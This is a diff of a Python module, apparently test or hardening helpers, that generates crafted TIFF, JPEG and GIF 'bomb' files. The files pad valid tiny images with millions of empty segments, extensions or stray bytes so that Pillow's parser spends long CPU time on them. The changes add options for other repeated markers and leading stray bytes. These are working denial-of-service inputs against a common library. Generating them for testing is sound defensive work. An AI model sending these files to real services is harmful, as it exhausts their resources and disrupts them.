@@ -92,20 +92,22 @@ def tiff_strip_bomb(strips: int = 1_000_000, prefix: bytes = b"II*\x00") -> byte
     return head + ifd + bytes(8 if big else 4) + b"\x80\x00" + np.full(strips, pixel, endian + "u2").tobytes()
 
 
-def jpeg_header_padding_bomb(segments: int = 3_700_000, fill: int = 0) -> bytes:
+def jpeg_header_padding_bomb(segments: int = 3_700_000, fill: int = 0, segment: bytes = b"\xff\xe5\x00\x02") -> bytes:
     """A valid 8x8 JPEG with ``segments`` empty APP5 segments (4 bytes each) and ``fill`` FF fill
-    bytes before its own header: Pillow walks both in Python (~1.3 us a segment, ~0.4 us a byte)."""
+    bytes before its own header: Pillow walks both in Python (~1.3 us a segment, ~0.4 us a byte).
+    ``segment``: another one to repeat, e.g. a marker Pillow takes without a length (SOI, EOI, JPGn)."""
     small = encode(Image.new("RGB", (8, 8), (1, 2, 3)), "JPEG")
-    return small[:2] + b"\xff\xe5\x00\x02" * segments + b"\xff" * fill + small[2:]
+    return small[:2] + segment * segments + b"\xff" * fill + small[2:]
 
 
-def gif_extension_bomb(extensions: int = 3_000_000, payload: bytes = b"\x01x") -> bytes:
+def gif_extension_bomb(extensions: int = 3_000_000, payload: bytes = b"\x01x", stray: bytes = b"") -> bytes:
     """A valid 8x8 GIF with ``extensions`` comment extensions before its image, each holding
-    ``payload`` (sub-blocks) then the terminator: Pillow walks and keeps them all in Python."""
+    ``payload`` (sub-blocks) then the terminator: Pillow walks and keeps them all in Python.
+    ``stray``: bytes before the extensions, which Pillow skips one at a time."""
     small = encode(Image.new("P", (8, 8), 1), "GIF")
     flags = small[10]
     start = 13 + (3 << ((flags & 7) + 1) if flags & 0x80 else 0)  # past the global colour table
-    return small[:start] + (b"!\xfe" + payload + b"\x00") * extensions + small[start:]
+    return small[:start] + stray + (b"!\xfe" + payload + b"\x00") * extensions + small[start:]
 
 
 def webp_header_bomb() -> bytes:
